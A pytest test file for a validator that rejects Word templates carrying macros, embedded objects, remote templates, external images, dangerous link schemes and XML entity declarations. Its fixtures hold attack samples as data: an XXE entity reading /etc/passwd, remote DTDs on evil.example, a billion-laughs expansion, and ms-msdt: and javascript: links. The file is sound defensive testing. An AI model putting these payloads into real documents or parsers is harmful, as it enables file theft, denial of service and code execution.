"""Templates that carry something which runs or fetches, entities, or parts that are not where Word keeps them."""

import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from word_files import (
    DOCUMENT,
    FOOTER,
    HEADER,
    OFFICE,
    PACKAGE_RELS,
    RELS,
    SETTINGS,
    STYLES,
    TYPES,
    Parts,
    cases,
    changed,
    field,
    house,
    opened,
    packed,
    paragraph,
    refusal,
    with_body,
    with_part,
    with_relationship,
)

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
WAYS_OUT = (
    "file://evil/share",
    "javascript:alert(1)",
    "ms-msdt:/id",
    "\\\\evil\\share",
    "data:text/html,x",
    "evil.docm",
)
FIELDS = {case["name"]: case["pieces"] for case in cases("fields")["case"]}


def with_types(old: str, new: str, parts: Parts | None = None) -> Parts:
    return changed(TYPES, old, new, parts)


MAIN = f'PartName="/word/document.xml" ContentType="{WORD}.document.main+xml"'
ACTIVE: dict[str, tuple[Callable[[], Parts], str]] = {
    "macros": (lambda: {**house(), "word/vbaProject.bin": b"x"}, "word/vbaProject.bin can run or hide something"),
    "macros by their relationship": (
        lambda: with_part("word/styles2.xml", "<x/>", "vbaProject"),
        "the template holds macros",
    ),
    "a file for macros": (
        lambda: with_types(
            MAIN, MAIN.replace(f"{WORD}.document.main", "application/vnd.ms-word.document.macroEnabled.main")
        ),
        "the template can run macros; save it as a Word Document (.docx)",
    ),
    "a file for macros, spelt otherwise": (
        lambda: with_types(
            MAIN, MAIN.replace(f"{WORD}.document.main", "application/vnd.ms-word.document.macro&#69;nabled.main")
        ),
        "the template can run macros",
    ),
    "a template file": (
        lambda: with_types(MAIN, MAIN.replace("document.main", "template.main")),
        "this is a Word template (.dotx); save it as a Word Document (.docx)",
    ),
    "ActiveX": (lambda: with_part("word/activeX1.xml", "<x/>", "control"), "the template holds an ActiveX control"),
    "an ActiveX element": (
        lambda: with_body(paragraph('<w:r><w:control r:id="rId1"/></w:r>')),
        "holds something that can run or fetch (control)",
    ),
    "an embedded object": (
        lambda: {**house(), "word/embeddings/oleObject1.bin": b"x"},
        "oleObject1.bin can run or hide something",
    ),
    "an embedded object under another name": (
        lambda: with_part("word/media/image1.png", "x", "oleObject"),
        "the template holds an embedded object",
    ),
    "an embedded workbook": (lambda: with_part("word/book.png", "x", "package"), "the template holds an embedded file"),
    "an object element": (
        lambda: with_body(paragraph('<w:r><o:OLEObject xmlns:o="urn:x" ProgID="Package"/></w:r>')),
        "holds something that can run or fetch (OLEObject)",
    ),
    "a chunk of HTML": (
        lambda: with_part("word/chunk.xml", "<x/>", "aFChunk"),
        "a file that Word would take in on opening",
    ),
    "a chunk element": (lambda: with_body('<w:altChunk r:id="rId1"/>'), "can run or fetch (altChunk)"),
    "a web page": (lambda: {**house(), "word/chunk.html": b"x"}, "word/chunk.html can run or hide something"),
    "a nested zip": (lambda: {**house(), "word/media/a.zip": packed(house())}, "a.zip can run or hide something"),
    "a drawing that can hold scripts": (
        lambda: {**house(), "word/media/a.svg": b"<svg/>"},
        "its pictures as PNG or JPEG",
    ),
    "another template": (
        lambda: with_relationship("attachedTemplate", "https://evil.example/t.dotm"),
        "the template holds a tie to another template",
    ),
    "a subdocument": (lambda: with_relationship("subDocument", "file:///x.docx"), "the template holds a subdocument"),
    "a frame": (lambda: with_relationship("frame", "https://evil.example/"), "a frame of another file"),
    "an add-in": (lambda: with_part("word/pane.xml", "<x/>", "webextensiontaskpanes"), "the template holds an add-in"),
    "a ribbon": (lambda: with_part("word/ui.xml", "<x/>", "ui/extensibility"), "the template holds buttons of its own"),
    "something unheard of": (
        lambda: with_part("word/x.xml", "<x/>", "newThing"),
        "something that no letter has, 'newThing'",
    ),
    "a picture from elsewhere": (
        lambda: with_relationship("image", "https://evil.example/pixel.png"),
        "the template fetches its image from elsewhere",
    ),
    "a picture from elsewhere, spelt otherwise": (
        lambda: changed(
            RELS,
            "</Relationships>",
            f"<Relationship TargetMode='&#69;xternal' Target='http://x/>' Id='a' Type='{OFFICE}/image'/>"
            "</Relationships>",
        ),
        "the template fetches its image from elsewhere",
    ),
    "relationships in capitals": (
        lambda: {**house(), "word/_rels/settings.xml.RELS": house()[RELS].replace(b"/styles", b"/attachedTemplate")},
        "the template holds a tie to another template (word/_rels/settings.xml.RELS)",
    ),
    "a picture of the old kind": (
        lambda: with_body(
            paragraph(
                '<w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://x/y.png"/></w:pict></w:r>'
            )
        ),
        "a picture in word/document.xml is fetched from elsewhere",
    ),
    "a web video": (
        lambda: with_body(paragraph('<w:r><x:webVideoPr xmlns:x="urn:x" embeddedHtml="&lt;script&gt;"/></w:r>')),
        "holds something that can run or fetch (webVideoPr)",
    ),
    "a mail merge": (
        lambda: changed(SETTINGS, "<w:compat>", '<w:mailMerge><w:query w:val="SELECT"/></w:mailMerge><w:compat>'),
        "word/settings.xml holds something that can run or fetch (mailMerge)",
    ),
    "a form field that starts a macro": (
        lambda: with_body(paragraph('<w:r><w:ffData><w:entryMacro w:val="x"/></w:ffData></w:r>')),
        "can run or fetch (entryMacro)",
    ),
    "the strict form": (
        lambda: {
            **house(),
            DOCUMENT: house()[DOCUMENT].replace(
                b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
                b"http://purl.oclc.org/ooxml/wordprocessingml/main",
            ),
        },
        "in the Strict form of Open XML; save it as a Word Document (.docx)",
    ),
    "another prefix": (
        lambda: {**house(), DOCUMENT: house()[DOCUMENT].replace(b"w:", b"x:").replace(b":w=", b":x=")},
        "was written by an unusual program",
    ),
    "a prefix of another meaning": (
        lambda: with_body('<w:x xmlns:w="urn:x"/>'),
        "was written by an unusual program",
    ),
    "a signature": (
        lambda: with_relationship("origin", "document.xml", "Internal"),
        "the template holds a digital signature",
    ),
    "a decoy": (
        lambda: changed(
            PACKAGE_RELS, "word/document.xml", "word/real.xml", {**house(), "word/real.xml": house()[DOCUMENT]}
        ),
        "the template keeps in word/real.xml what Word keeps in word/document.xml",
    ),
    "no way to the document": (
        lambda: changed(PACKAGE_RELS, "relationships/officeDocument", "relationships/theme"),
        "does not lead to word/document.xml",
    ),
    "a missing part": (
        lambda: changed(RELS, "header1.xml", "header9.xml"),
        "the part word/header9.xml is missing",
    ),
    "no styles": (
        lambda: {name: data for name, data in house().items() if name != STYLES},
        "the part word/styles.xml is missing",
    ),
    "no relationships": (
        lambda: {name: data for name, data in house().items() if name != RELS},
        "it lacks the part word/_rels/document.xml.rels",
    ),
    "a style for numbers without numbering": (
        lambda: changed(RELS, "/numbering", "/webSettings"),
        "the style 'List Number' is not tied to a numbered list",
    ),
}


@pytest.mark.parametrize("what", ACTIVE)
def test_what_runs_or_fetches_or_is_out_of_place_is_refused(what: str, tmp_path: Path) -> None:
    make, says = ACTIVE[what]
    assert says in refusal(make(), tmp_path)


@pytest.mark.parametrize("address", WAYS_OUT)
def test_a_link_leads_to_the_web_or_to_mail(address: str, tmp_path: Path) -> None:
    said = refusal(with_relationship("hyperlink", address), tmp_path)
    assert f"leads to {address!r}; links may lead to http:, https: and mailto:" in said


@pytest.mark.parametrize("what", FIELDS)
@pytest.mark.parametrize("part", [DOCUMENT, HEADER, FOOTER])
def test_a_field_that_reads_other_files_is_refused(what: str, part: str, tmp_path: Path) -> None:
    last = {DOCUMENT: "<w:sectPr>", HEADER: "</w:hdr>", FOOTER: "</w:ftr>"}[part]
    said = refusal(changed(part, last, f"{paragraph(field(*FIELDS[what]))}{last}"), tmp_path)
    assert "a field in word/" in said or "a link in word/" in said


@pytest.mark.parametrize(
    "pieces",
    [
        ("begin", "code: PAGE \\* MERGEFORMAT ", "separate", "<w:r><w:t>1</w:t></w:r>", "end"),
        ("begin", 'code: HYPERLINK "https://example.org/link/include/rd" \\t "_blank" ', "separate", "end"),
        ("begin", 'code: HYPERLINK \\l "place" ', "separate", "end"),
        ("begin", 'code: HYPERLINK \\h \\o "a tip" "mailto:office@example.org" ', "separate", "end"),
        ('<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="https://x"/></w:pict></w:r>',),
        ("begin", 'code: TOC \\o "1-3" ', "separate", "begin", "code: PAGEREF _Toc1 ", "separate", "end", "end"),
        ("begin", "code: IF ", "begin", "code: PAGE ", "end", 'code: = 1 "first" "further" ', "end"),
        ("begin", "end"),
        ('<w:fldSimple w:instr=" NUMPAGES "/>',),
    ],
)
def test_a_field_that_reads_the_letter_alone_is_welcome(pieces: list[str], tmp_path: Path) -> None:
    assert opened(with_body(paragraph(field(*pieces))), tmp_path).sources


DTDS = {
    "an entity": b'<!DOCTYPE x [<!ENTITY a "evil">]>',
    "a file as an entity": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "an address as an entity": b'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>',
    "a document type elsewhere": b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
    "a document type": b"<!DOCTYPE html>",
    "a billion laughs": b"<!DOCTYPE x [<!ENTITY a0 'lol'>"
    + b"".join(b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12))
    + b"]>",
}


@pytest.mark.parametrize("what", DTDS)
@pytest.mark.parametrize("part", [DOCUMENT, HEADER, STYLES, SETTINGS, RELS, PACKAGE_RELS, TYPES, "docProps/core.xml"])
def test_a_part_that_declares_entities_is_refused(what: str, part: str, tmp_path: Path) -> None:
    head, _, rest = house()[part].partition(b"?>\n")
    used = rest.replace(b"</", b"&a;</", 1) if b"ENTITY a " in DTDS[what] else rest
    said = refusal({**house(), part: head + b"?>\n" + DTDS[what] + used}, tmp_path)
    assert f"the part {part} declares a document type or entities" in said


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-7", "iso-8859-1", "cp037", "utf-32"])
@pytest.mark.parametrize("part", [DOCUMENT, STYLES, "docProps/core.xml"])
def test_a_part_in_another_encoding_is_refused(part: str, encoding: str, tmp_path: Path) -> None:
    text = (
        house()[part]
        .decode()
        .replace("UTF-8", encoding)
        .replace("\u2013", "-")
        .replace("?>\n", f"?>{DTDS['an entity'].decode()}")
    )
    said = refusal({**house(), part: text.encode(encoding)}, tmp_path)
    assert f"the part {part} is" in said
    assert "not in UTF-8" in said


def test_letters_of_no_encoding_are_refused(tmp_path: Path) -> None:
    spoilt = {**house(), DOCUMENT: house()[DOCUMENT].replace(b"Key Findings", b"Key \xff\xfe")}
    assert "the part word/document.xml is damaged, or not in UTF-8 (line 2)" in refusal(spoilt, tmp_path)


def test_the_recursion_limit_is_never_reached(tmp_path: Path) -> None:
    deep = sys.getrecursionlimit() * 2
    nested = "{% if draft %}" * deep + "x" + "{% endif %}" * deep
    assert "characters, which is more than any letter's" in refusal(with_body(paragraph(nested)), tmp_path)
